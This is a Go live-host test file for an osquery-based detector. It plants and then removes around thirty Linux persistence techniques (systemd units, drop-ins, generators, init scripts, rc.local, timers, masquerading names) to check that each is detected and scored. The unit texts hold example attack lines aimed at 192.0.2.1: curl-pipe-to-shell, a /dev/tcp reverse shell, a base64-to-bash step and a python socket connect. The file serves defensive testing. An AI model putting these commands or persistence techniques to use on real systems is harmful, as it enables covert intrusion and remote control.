// Package live plants services on the host it runs on, in the ways intruders do, and
// checks that each is told. It changes the real file system, and cleans up: it runs
// only for root, on Linux, with ROLLCALL_LIVE=1.
package live

import (
	"context"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/osquery-rollcall/rollcall/extension/evidence"
	"github.com/osquery-rollcall/rollcall/extension/score"
	"github.com/osquery-rollcall/rollcall/extension/service"
	"github.com/osquery-rollcall/rollcall/extension/service/inventory"
	"github.com/osquery-rollcall/rollcall/extension/service/watch"
)

// mark is in the name or in the text of everything that is planted.
const mark = "rollcall-live"

// within is how long a planted service may take to be told.
const within = 15 * time.Second

func needHost(t *testing.T) {
	t.Helper()
	if os.Getenv("ROLLCALL_LIVE") != "1" || runtime.GOOS != "linux" || os.Getuid() != 0 {
		t.Skip("NOT TESTED: persistence on a live host. It needs root, Linux and ROLLCALL_LIVE=1, and plants and removes services of its own")
	}
	sweep(t)
}

// planter makes files that were not there, and takes them away again.
type planter struct {
	t     *testing.T
	files []string
	// commands are what was run, as a source of processes would have seen it.
	commands []evidence.Process
}

func newPlanter(t *testing.T) *planter {
	p := &planter{t: t}
	t.Cleanup(p.clean)
	return p
}

// clean removes what was planted, the last first.
func (p *planter) clean() {
	for i := len(p.files) - 1; i >= 0; i-- {
		if err := os.Remove(p.files[i]); err != nil && !os.IsNotExist(err) {
			p.t.Errorf("left behind: %v", err)
		}
	}
	p.files = nil
}

// claim makes sure that a path is free and ours to remove, and makes its
// directories.
func (p *planter) claim(path, text string) {
	p.t.Helper()
	if !strings.Contains(path, mark) && !strings.Contains(text, mark) {
		p.t.Fatalf("%s does not show whose it is", path)
	}
	if _, err := os.Lstat(path); err == nil {
		p.t.Skipf("NOT TESTED: %s exists on this host", path)
	}
	var missing []string
	for dir := filepath.Dir(path); ; dir = filepath.Dir(dir) {
		if _, err := os.Stat(dir); err == nil {
			break
		}
		missing = append(missing, dir)
	}
	for i := len(missing) - 1; i >= 0; i-- {
		if err := os.Mkdir(missing[i], 0o755); err != nil {
			p.t.Fatal(err)
		}
		p.files = append(p.files, missing[i])
	}
	p.files = append(p.files, path)
}

// sweep takes away what a run that was killed has left.
func sweep(t *testing.T) {
	t.Helper()
	ours := func(path string) bool {
		if strings.Contains(filepath.Base(path), mark) {
			return true
		}
		if to, err := os.Readlink(path); err == nil {
			return strings.Contains(to, mark)
		}
		info, err := os.Lstat(path)
		if err != nil || !info.Mode().IsRegular() || info.Size() > 64<<10 {
			return false
		}
		b, err := os.ReadFile(path)
		return err == nil && strings.Contains(string(b), mark)
	}
	for _, d := range []string{
		"/etc/systemd/system", "/etc/systemd/system.control", "/etc/systemd/user", "/etc/systemd/system-generators", "/run/systemd/transient", "/usr/local/lib/systemd/system",
		"/usr/lib/systemd/system-shutdown", "/root/.config/systemd/user", "/etc/systemd/system/multi-user.target.wants", "/etc/init.d", "/etc/rc2.d", "/etc/sv", "/dev/shm", "/tmp", "/var/tmp",
		"/opt", "/srv", "/usr/local/sbin", "/etc",
	} {
		entries, err := os.ReadDir(d)
		if err != nil {
			continue
		}
		for _, e := range entries {
			path := filepath.Join(d, e.Name())
			named := strings.Contains(e.Name(), mark)
			if !named && (d == "/etc" && e.Name() != "rc.local" && e.Name() != "inittab" || d != "/etc" && d != "/etc/systemd/system") {
				continue
			}
			if strings.HasSuffix(e.Name(), ".d") && !named { // a drop-in of ours in another's directory
				_ = os.Remove(filepath.Join(path, mark+".conf"))
				_ = os.Remove(path) // if nothing else is in it
				continue
			}
			if e.IsDir() && !named || !ours(path) {
				continue
			}
			t.Logf("left by an earlier run: %s", path)
			if err := os.RemoveAll(path); err != nil {
				t.Error(err)
			}
		}
	}
}

// file makes a file, as an editor or a program would.
func (p *planter) file(path, text string, mode fs.FileMode) {
	p.t.Helper()
	p.claim(path, text)
	if err := os.WriteFile(path, []byte(text), mode); err != nil {
		p.t.Fatal(err)
	}
	if err := os.Chmod(path, mode); err != nil {
		p.t.Fatal(err)
	}
}

// unit makes the text of a unit file.
func unit(lines ...string) string {
	return "[Unit]\nDescription=" + mark + "\n[Service]\n" + strings.Join(lines, "\n") + "\n[Install]\nWantedBy=multi-user.target\n"
}

// staged makes a file to be copied from.
func (p *planter) staged(name, text string) string {
	path := "/var/tmp/" + mark + "/" + name
	p.file(path, text, 0o755)
	return path
}

// run runs a command that makes files, and remembers it.
func (p *planter) run(makes []string, argv ...string) {
	p.t.Helper()
	for _, path := range makes {
		p.claim(path, mark)
	}
	path, err := exec.LookPath(argv[0])
	if err != nil {
		p.t.Skipf("NOT TESTED: %v", err)
	}
	// As audit and /proc have it: joined with blanks, without the quotes.
	p.commands = append(p.commands, evidence.Process{
		Time: time.Now().Unix(), Platform: evidence.Linux, PID: int64(10000 + len(p.commands)), Path: path, CmdLine: strings.Join(argv, " "), ArgsJoined: true,
		CWD: "/", UID: "0", Username: "root",
	})
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if out, err := exec.CommandContext(ctx, path, argv[1:]...).CombinedOutput(); err != nil {
		p.t.Fatalf("%q: %v: %s", argv, err, out)
	}
}

// watcher reads the source as the engine does.
type watcher struct {
	t      *testing.T
	src    *watch.Source
	cursor string
}

func newWatcher(t *testing.T) *watcher {
	w := &watcher{t: t, src: watch.New(watch.Options{})}
	t.Cleanup(func() { _ = w.src.Close() })
	return w
}

func (w *watcher) read() []evidence.Install {
	w.t.Helper()
	b, err := w.src.Read(context.Background(), w.cursor, 10_000)
	if err != nil {
		w.t.Fatal(err)
	}
	w.cursor = b.Cursor
	for _, g := range b.Gaps {
		w.t.Logf("gap: %s", g.Reason)
	}
	return b.Installs
}

// settle reads until nothing more comes.
func (w *watcher) settle() {
	for quiet := 0; quiet < 4; time.Sleep(50 * time.Millisecond) {
		if len(w.read()) == 0 {
			quiet++
		} else {
			quiet = 0
		}
	}
}

// await reads until a row is as wanted, and says how long that took.
func (w *watcher) await(want func(*evidence.Install) bool) (found *evidence.Install, all []evidence.Install, took time.Duration) {
	w.t.Helper()
	for began := time.Now(); time.Since(began) < within; time.Sleep(100 * time.Millisecond) {
		rows := w.read()
		all = append(all, rows...)
		for i := range rows {
			if want(&rows[i]) {
				return &rows[i], all, time.Since(began)
			}
		}
	}
	return nil, all, within
}

// judge scores a row as the engine does.
func judge(in *evidence.Install) score.Verdict {
	found := service.Features(service.Install{
		Kind: service.Kind(in.Kind), Name: in.Name, DisplayName: in.DisplayName, ImagePath: in.ImagePath, UnitPath: in.UnitPath, Start: service.StartUnknown, Account: in.Account,
		OnDisk: in.OnDisk, WritableByOthers: in.WritableByOthers, Packaged: in.Packaged,
	})
	var more []score.Factor
	for _, s := range in.Signs {
		more = append(more, score.Factor{Name: s.Factor, Evidence: s.Evidence, Scale: s.Scale})
	}
	if in.PackageVerified == evidence.Yes {
		more = append(more, score.Factor{Name: "attribution", Evidence: "package " + in.Package})
	}
	return score.Install(found, more, score.DefaultWeights())
}

// shows reports whether a row or its verdict has a factor.
func shows(in *evidence.Install, v score.Verdict, factor string) bool {
	return slices.ContainsFunc(in.Signs, func(s evidence.Sign) bool { return s.Factor == factor }) ||
		slices.ContainsFunc(v.Reasons, func(r score.Reason) bool { return r.Factor == factor })
}

// technique is one way to have a program started.
type technique struct {
	name string
	// prepare makes what must be there before; its rows don't count.
	prepare func(p *planter)
	plant   func(p *planter)
	// service is the name of the service that must be told, action what of it.
	service string
	action  string
	// factor must be among the reasons, and the score at least so high.
	factor string
	least  int
	// image must be in the command the row shows.
	image string
	// by is the command that did it, as far as one did; empty when a program of the
	// test's own wrote the files.
	by string
	// after is what is told when it is taken away.
	after string
}

const (
	dir = "/etc/systemd/system/"
	shm = "/dev/shm/" + mark + "/kd"
)

// packagedUnit is a unit of a package that nothing on this host changes yet.
func packagedUnit(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"e2scrub_reap.service", "man-db.service", "fstrim.service", "dpkg-db-backup.service", "apt-daily.service", "cron.service", "ssh.service"} {
		if _, err := os.Stat("/usr/lib/systemd/system/" + name); err != nil {
			continue
		}
		if _, err := os.Lstat(dir + name); err == nil {
			continue
		}
		return name
	}
	t.Skip("NOT TESTED: no packaged unit on this host")
	return ""
}

func techniques(t *testing.T) []technique {
	packaged := packagedUnit(t)
	own := func(n string) string { return mark + "-" + n + ".service" }
	return []technique{
		{
			name: "a program in memory only", service: own("shm"), action: evidence.Created, factor: "everybodys_directory", least: 60, image: shm, by: "install -m 644",
			plant: func(p *planter) {
				p.file(shm, "#!/bin/sh\n", 0o755)
				from := p.staged("shm.service", unit("ExecStart="+shm))
				p.run(nil, "ls", "-l", "/etc/systemd/system")
				p.run([]string{dir + own("shm")}, "install", "-m", "644", from, dir+own("shm"))
				p.run(nil, "cat", dir+own("shm"))
			},
		},
		{
			name: "fetched and run before the service", service: own("pre"), action: evidence.Created, factor: "download", least: 60, image: "curl", by: "sh -c",
			plant: func(p *planter) {
				from := p.staged("pre.service", unit("ExecStartPre=-/bin/sh -c 'curl -s http://192.0.2.1/a | sh'", "ExecStart=/usr/bin/sleep infinity"))
				p.run([]string{dir + own("pre")}, "sh", "-c", "cat "+from+" > "+dir+own("pre"))
			},
		},
		{
			name: "encoded", service: own("enc"), action: evidence.Created, factor: "encoded", least: 60, by: "tee",
			plant: func(p *planter) {
				from := p.staged("enc.service", unit("ExecStart=/bin/bash -c 'echo aWQ= | base64 -d | bash'"))
				p.run([]string{dir + own("enc")}, "sh", "-c", "cat "+from+" | tee "+dir+own("enc"))
			},
		},
		{
			name: "a shell over the network", service: own("rev"), action: evidence.Created, factor: "reverse_shell", least: 60, by: "cp",
			plant: func(p *planter) {
				from := p.staged(own("rev"), unit("ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'", "Restart=always"))
				p.run([]string{dir + own("rev")}, "cp", from, dir)
			},
		},
		{
			name: "a transient unit", service: own("run"), action: evidence.Created, factor: "transient_unit", least: 60, image: "/tmp/" + mark,
			plant: func(p *planter) {
				p.file("/tmp/"+mark+"/x", "#!/bin/sh\n", 0o755)
				p.file("/run/systemd/transient/"+own("run"), "# This is a transient unit file.\n"+unit("ExecStart=\"/tmp/"+mark+"/x\" \"-d\""), 0o644)
			},
		},
		{
			name: "a drop-in over a packaged unit", service: packaged, action: evidence.Modified, factor: "dropin_over_package", least: 60, image: shm, by: "mkdir",
			plant: func(p *planter) {
				p.file(shm, "#!/bin/sh\n", 0o755)
				d := dir + packaged + ".d"
				p.run([]string{d + "/" + mark + ".conf"}, "sh", "-c", "mkdir -p "+d+"; printf '[Service]\\nExecStartPost="+shm+"\\n' > "+d+"/"+mark+".conf")
			},
			after: evidence.Modified,
		},
		{
			name: "a library for a packaged unit", service: packaged, action: evidence.Modified, factor: "preload", least: 60,
			plant: func(p *planter) {
				p.file(dir+packaged+".d/"+mark+".conf", "[Service]\nEnvironment=LD_PRELOAD=/dev/shm/"+mark+".so\n", 0o644)
			},
			after: evidence.Modified,
		},
		{
			name: "a generator", service: mark + "-gen", action: evidence.Created, factor: "generator", least: 40, by: "cp",
			plant: func(p *planter) {
				from := p.staged("gen", "#!/bin/sh\n")
				p.run([]string{"/etc/systemd/system-generators/" + mark + "-gen"}, "cp", from, "/etc/systemd/system-generators/"+mark+"-gen")
			},
		},
		{
			name: "a shutdown hook", service: mark + "-hook", action: evidence.Created, factor: "generator", least: 40,
			plant: func(p *planter) {
				p.file("/usr/lib/systemd/system-shutdown/"+mark+"-hook", "#!/bin/sh\n", 0o755)
			},
		},
		{
			name: "a timer", service: mark + "-tick.timer", action: evidence.Created, factor: "everybodys_directory", least: 60, image: "/var/tmp/" + mark + "/tick",
			plant: func(p *planter) {
				p.file("/var/tmp/"+mark+"/tick", "#!/bin/sh\n", 0o755)
				p.file(dir+own("tick"), unit("Type=oneshot", "ExecStart=/var/tmp/"+mark+"/tick"), 0o644)
				p.file(dir+mark+"-tick.timer", "[Timer]\nOnCalendar=*:0/5\n[Install]\nWantedBy=timers.target\n", 0o644)
			},
		},
		{
			name: "a shell behind a socket", service: mark + "-sh@.service", action: evidence.Created, factor: "reverse_shell", least: 60,
			plant: func(p *planter) {
				p.file(dir+mark+"-sh.socket", "[Socket]\nListenStream=4444\nAccept=yes\n[Install]\nWantedBy=sockets.target\n", 0o644)
				p.file(dir+mark+"-sh@.service", unit("ExecStart=-/bin/bash -i", "StandardInput=socket"), 0o644)
			},
		},
		{
			name: "a path unit and a hidden program", service: mark + "-file.path", action: evidence.Created, factor: "hidden_file", least: 40, image: "/opt/." + mark,
			plant: func(p *planter) {
				p.file("/opt/."+mark+"/x", "#!/bin/sh\n", 0o755)
				p.file(dir+own("file"), unit("ExecStart=/opt/."+mark+"/x"), 0o644)
				p.file(dir+mark+"-file.path", "[Path]\nPathExists=/etc/passwd\n", 0o644)
			},
		},
		{
			name: "an init script", service: mark + "-init", action: evidence.Created, factor: "everybodys_directory", least: 60, image: shm, by: "cp",
			plant: func(p *planter) {
				p.file(shm, "#!/bin/sh\n", 0o755)
				from := p.staged("init", "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: "+mark+"\n# Default-Start: 2 3\n### END INIT INFO\ncase \"$1\" in\nstart) start-stop-daemon --start --background --exec "+shm+" ;;\nesac\n")
				p.run([]string{"/etc/init.d/" + mark + "-init"}, "cp", from, "/etc/init.d/"+mark+"-init")
			},
		},
		{
			name: "an init script's link", service: mark + "-rc", action: evidence.Enabled, factor: "everybodys_directory", least: 60, image: shm, by: "ln -s",
			prepare: func(p *planter) {
				p.file(shm, "#!/bin/sh\n", 0o755)
				p.file("/etc/init.d/"+mark+"-rc", "#!/bin/sh\nDAEMON="+shm+"\n", 0o755)
			},
			plant: func(p *planter) {
				p.run([]string{"/etc/rc2.d/S99" + mark + "-rc"}, "ln", "-s", "../init.d/"+mark+"-rc", "/etc/rc2.d/S99"+mark+"-rc")
			},
		},
		{
			name: "rc.local", service: "rc.local", action: evidence.Created, factor: "everybodys_directory", least: 60, image: shm,
			plant: func(p *planter) {
				p.file(shm, "#!/bin/sh\n", 0o755)
				p.file("/etc/rc.local", "#!/bin/sh\n# "+mark+"\nnohup "+shm+" >/dev/null 2>&1 &\nexit 0\n", 0o755)
			},
		},
		{
			name: "inittab", service: "rl", action: evidence.Created, factor: "everybodys_directory", least: 60, image: shm,
			plant: func(p *planter) {
				p.file("/etc/inittab", "# "+mark+"\nrl:2345:respawn:"+shm+" -d\n", 0o644)
			},
		},
		{
			name: "a service of runit", service: mark + "-sv", action: evidence.Created, factor: "everybodys_directory", least: 60, image: shm,
			plant: func(p *planter) {
				p.file("/etc/sv/"+mark+"-sv/run", "#!/bin/sh\nexec "+shm+" -d\n", 0o755)
			},
		},
		{
			name: "a user's unit", service: own("user"), action: evidence.Created, factor: "everybodys_directory", least: 60, image: shm,
			plant: func(p *planter) {
				p.file("/root/.config/systemd/user/"+own("user"), unit("ExecStart="+shm), 0o644)
			},
		},
		{
			name: "a unit for every user", service: own("users"), action: evidence.Created, factor: "inline_code", least: 40,
			plant: func(p *planter) {
				p.file("/etc/systemd/user/"+own("users"), unit("ExecStart=/usr/bin/python3 -c 'import socket,subprocess;s=socket.socket();s.connect((\"192.0.2.1\",4))'"), 0o644)
			},
		},
		{
			name: "a link to a unit elsewhere", service: own("link"), action: evidence.Created, factor: "everybodys_directory", least: 60, by: "systemctl link",
			plant: func(p *planter) {
				p.file("/dev/shm/"+own("link"), unit("ExecStart=/usr/bin/sleep infinity"), 0o644)
				p.run([]string{dir + own("link")}, "systemctl", "link", "/dev/shm/"+own("link"))
			},
		},
		{
			name: "the name of a packaged unit as an alias", service: own("alias"), action: evidence.Created, factor: "dropin_over_package", least: 60, image: shm,
			plant: func(p *planter) {
				p.file(dir+own("alias"), unit("ExecStart="+shm), 0o644)
				p.claim(dir+packaged, mark)
				if err := os.Symlink(dir+own("alias"), dir+packaged); err != nil {
					p.t.Fatal(err)
				}
			},
		},
		{
			name: "a copy in place of a packaged unit", service: packaged, action: evidence.Modified, factor: "dropin_over_package", least: 60, image: "curl",
			plant: func(p *planter) {
				b, err := os.ReadFile("/usr/lib/systemd/system/" + packaged)
				if err != nil {
					p.t.Fatal(err)
				}
				p.file(dir+packaged, "# "+mark+"\n"+strings.Replace(string(b), "[Service]", "[Service]\nExecStartPre=/bin/sh -c \"curl http://192.0.2.1/x|bash\"", 1), 0o644)
			},
			after: evidence.Modified,
		},
		{
			name: "a time that was set", service: own("time"), action: evidence.Created, factor: "time_stomped", least: 20, by: "touch",
			plant: func(p *planter) {
				p.file("/usr/local/lib/systemd/system/"+own("time"), unit("ExecStart=/usr/bin/sleep infinity"), 0o644)
				p.run(nil, "touch", "-r", "/bin/ls", "/usr/local/lib/systemd/system/"+own("time"))
			},
		},
		{
			name: "a program of the system's name", service: own("sshd"), action: evidence.Created, factor: "masquerade", least: 60,
			plant: func(p *planter) {
				p.file("/srv/"+mark+"/sshd", "#!/bin/sh\n", 0o755)
				p.file(dir+own("sshd"), unit("ExecStart=/srv/"+mark+"/sshd -D"), 0o644)
			},
		},
		{
			name: "nearly a name of the system's", service: "systemd-journa1d.service", action: evidence.Created, factor: "near_system_name", least: 40,
			plant: func(p *planter) {
				p.file("/usr/local/sbin/"+mark+"-x", "#!/bin/sh\n", 0o755)
				p.file(dir+"systemd-journa1d.service", unit("ExecStart=/usr/local/sbin/"+mark+"-x", "Restart=always"), 0o666)
			},
		},
		{
			name: "a name of the kernel's", service: own("kw"), action: evidence.Created, factor: "masquerade", least: 60,
			plant: func(p *planter) {
				p.file(dir+own("kw"), unit("ExecStart=@/usr/bin/python3 [kworker/0:1] /opt/"+mark+"/x.py"), 0o644)
			},
		},
		{
			name: "a program that is deleted once it runs", service: own("gone"), action: evidence.Modified, factor: "missing_program", least: 20, by: "rm",
			prepare: func(p *planter) {
				p.file("/opt/"+mark+"/gone", "#!/bin/sh\n", 0o755)
				p.file(dir+own("gone"), unit("ExecStart=/opt/"+mark+"/gone"), 0o644)
			},
			plant: func(p *planter) { p.run(nil, "rm", "/opt/"+mark+"/gone") },
		},
		{
			name: "a unit everybody can write", service: own("open"), action: evidence.Created, factor: "writable_by_others", least: 20,
			plant: func(p *planter) {
				p.file(dir+own("open"), unit("ExecStart=/usr/bin/sleep infinity"), 0o666)
			},
		},
		{
			name: "an instance of a template", service: mark + "@dev-shm-" + strings.ReplaceAll(mark, "-", `\x2d`) + "-kd.service", action: evidence.Enabled, factor: "everybodys_directory", least: 60, image: shm, by: "ln -s",
			prepare: func(p *planter) {
				p.file(shm, "#!/bin/sh\n", 0o755)
				p.file(dir+mark+"@.service", unit("ExecStart=/bin/sh %f"), 0o644)
			},
			plant: func(p *planter) {
				link := dir + "multi-user.target.wants/" + mark + "@dev-shm-" + strings.ReplaceAll(mark, "-", `\x2d`) + "-kd.service"
				p.run([]string{link}, "ln", "-s", dir+mark+"@.service", link)
			},
		},
		{
			name: "turned on by a link alone", service: own("wants"), action: evidence.Enabled, factor: "everybodys_directory", least: 60, by: "systemctl enable",
			prepare: func(p *planter) {
				p.file(dir+own("wants"), unit("ExecStart="+shm), 0o644)
			},
			plant: func(p *planter) {
				p.run([]string{dir + "multi-user.target.wants/" + own("wants")}, "systemctl", "enable", own("wants"))
			},
		},
		{
			name: "hidden by continued lines and hundreds of others", service: own("cont"), action: evidence.Created, factor: "download", least: 60, image: "curl",
			plant: func(p *planter) {
				var lines []string
				for i := range 150 {
					lines = append(lines, fmt.Sprintf("ExecStartPre=/bin/true %d", i))
				}
				p.file(dir+own("cont"), unit(append(lines, "ExecStart=/bin/sh \\", "# a comment does not end it", "  -c \\", "; nor does this", "  'curl http://192.0.2.1/a \\", "  | sh'")...), 0o644)
			},
		},
		{
			name: "a directory few know", service: own("control"), action: evidence.Created, factor: "everybodys_directory", least: 60, image: shm,
			plant: func(p *planter) {
				p.file("/etc/systemd/system.control/"+own("control"), unit("ExecStart="+shm), 0o644)
			},
		},
	}
}

func TestPersistence(t *testing.T) {
	needHost(t)
	w := newWatcher(t)
	w.settle()
	all := techniques(t)
	if len(all) < 20 {
		t.Fatalf("%d techniques", len(all))
	}
	for _, c := range all {
		t.Run(c.name, func(t *testing.T) {
			w.t = t
			p := newPlanter(t)
			if c.prepare != nil {
				c.prepare(p)
				w.settle()
				time.Sleep(50 * time.Millisecond)
			}
			began := time.Now()
			c.plant(p)
			done := time.Now()
			in, rows, took := w.await(func(in *evidence.Install) bool { return in.Name == c.service && in.Action == c.action })
			if in == nil {
				t.Fatalf("not told within %v, but %+v", within, rows)
			}
			v := judge(in)
			t.Logf("%s %s after %v, by %s: %s, %d: %s %v", in.Action, in.Name, took.Round(time.Millisecond), in.TimeBasis, v.Severity, v.Score, in.ImagePath, in.Changes)
			if in.Time < began.Unix()-1 || in.Time > done.Unix()+1 || in.TimeBasis == evidence.BasisFirstSeen {
				t.Errorf("at %d by %s, it was planted from %d to %d", in.Time, in.TimeBasis, began.Unix(), done.Unix())
			}
			if !shows(in, v, c.factor) {
				t.Errorf("the reason %s is missing: %+v %s", c.factor, in.Signs, v.Explain())
			}
			if v.Score < c.least {
				t.Errorf("scores %d, at least %d is due:\n%s", v.Score, c.least, v.Explain())
			}
			if c.image != "" && !strings.Contains(in.ImagePath, c.image) {
				t.Errorf("shows %q, not %q", in.ImagePath, c.image)
			}
			if c.by != "" {
				best, why := service.Installer(in, p.commands)
				if best < 0 || !strings.Contains(p.commands[best].CmdLine, c.by) {
					t.Errorf("done by %d (%s) of %+v", best, why, p.commands)
				}
			}
			p.clean()
			after := c.after
			if after == "" {
				after = evidence.Removed
			}
			if in, rows, _ := w.await(func(in *evidence.Install) bool { return in.Name == c.service && in.Action == after }); in == nil {
				t.Errorf("that it went is not told: %+v", rows)
			}
			w.settle()
		})
	}
}

// What a package brings is told as the package's.
func TestPackage(t *testing.T) {
	needHost(t)
	for _, tool := range []string{"dpkg", "dpkg-deb"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("NOT TESTED: %v", err)
		}
	}
	w := newWatcher(t)
	w.settle()
	p := newPlanter(t)
	root := t.TempDir()
	name := mark + "-package"
	if exec.Command("dpkg", "-s", name).Run() == nil {
		if out, err := exec.Command("dpkg", "--purge", name).CombinedOutput(); err != nil {
			t.Fatalf("left by an earlier run: %v: %s", err, out)
		}
	}
	for path, text := range map[string]string{
		"DEBIAN/control": "Package: " + name + "\nVersion: 1.0\nArchitecture: all\nMaintainer: nobody <nobody@example.org>\nDescription: " + mark + "\n",
		"DEBIAN/md5sums": "",
		"usr/lib/systemd/system/" + name + ".service": unit("ExecStart=/usr/libexec/" + name + "/agent"),
		"usr/libexec/" + name + "/agent":              "#!/bin/sh\n",
	} {
		at := filepath.Join(root, path)
		if err := os.MkdirAll(filepath.Dir(at), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(at, []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p.run(nil, "sh", "-c", "cd "+root+" && find usr -type f -exec md5sum {} + > DEBIAN/md5sums && chmod 644 DEBIAN/*")
	deb := filepath.Join(t.TempDir(), name+"_1.0_all.deb")
	p.run(nil, "dpkg-deb", "--root-owner-group", "--build", root, deb)
	t.Cleanup(func() {
		if out, err := exec.Command("dpkg", "--purge", name).CombinedOutput(); err != nil {
			t.Errorf("left behind: %v: %s", err, out)
		}
	})
	p.run(nil, "dpkg", "-i", deb)
	in, rows, took := w.await(func(in *evidence.Install) bool { return in.Name == name+".service" })
	if in == nil {
		t.Fatalf("not told: %+v", rows)
	}
	v := judge(in)
	t.Logf("after %v: %s %d, package %s", took, v.Severity, v.Score, in.Package)
	if in.Action != evidence.Created || in.Package != name || in.PackageVerified != evidence.Yes || v.Score >= 40 {
		t.Errorf("%+v\n%s", in, v.Explain())
	}
	if best, why := service.Installer(in, p.commands); best < 0 || !strings.HasPrefix(p.commands[best].CmdLine, "dpkg -i") {
		t.Errorf("done by %d (%s)", best, why)
	}
	w.settle()
	p.run(nil, "dpkg", "--purge", name)
	if in, rows, _ := w.await(func(in *evidence.Install) bool { return in.Name == name+".service" && in.Action == evidence.Removed }); in == nil {
		t.Errorf("that it went is not told: %+v", rows)
	}
}

// Nobody planted anything on a clean host: nothing stands out.
func TestCleanHost(t *testing.T) {
	needHost(t)
	r := inventory.New("/", inventory.Options{})
	j := inventory.Judge{Weights: score.DefaultWeights()}
	var all []inventory.Service
	for pending := true; pending; {
		var err error
		if all, err = r.Services(context.Background()); err != nil {
			t.Fatal(err)
		}
		pending = slices.ContainsFunc(all, func(s inventory.Service) bool { return s.Pending })
	}
	counts := map[string]int{}
	for i := range all {
		v, _ := j.ScoreService(&all[i])
		counts[v.Severity]++
		if v.Score >= 40 {
			t.Errorf("%s (%s) is %s, %d:\n%s", all[i].Name, all[i].UnitPath, v.Severity, v.Score, v.Explain())
		}
	}
	t.Logf("%d services: %v", len(all), counts)
}
